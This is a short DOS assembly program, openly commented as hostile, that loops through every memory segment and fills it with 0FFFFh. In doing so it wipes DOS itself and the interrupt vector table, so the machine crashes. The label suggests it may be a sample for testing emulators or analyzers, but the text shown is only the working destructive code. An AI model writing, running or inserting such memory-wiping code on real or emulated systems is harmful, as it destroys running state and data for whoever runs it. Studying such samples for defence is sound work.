; Hostile: overwrites all memory, DOS and the interrupt vectors among it.
        .386
code    segment use16 'code'
        assume cs:code, ds:code
        org 100h
start:  xor bx, bx
more:   mov es, bx
        xor di, di
        mov cx, 8000h
        mov ax, 0FFFFh
        rep stosw
        add bx, 1000h
        jmp more
code    ends
        end start
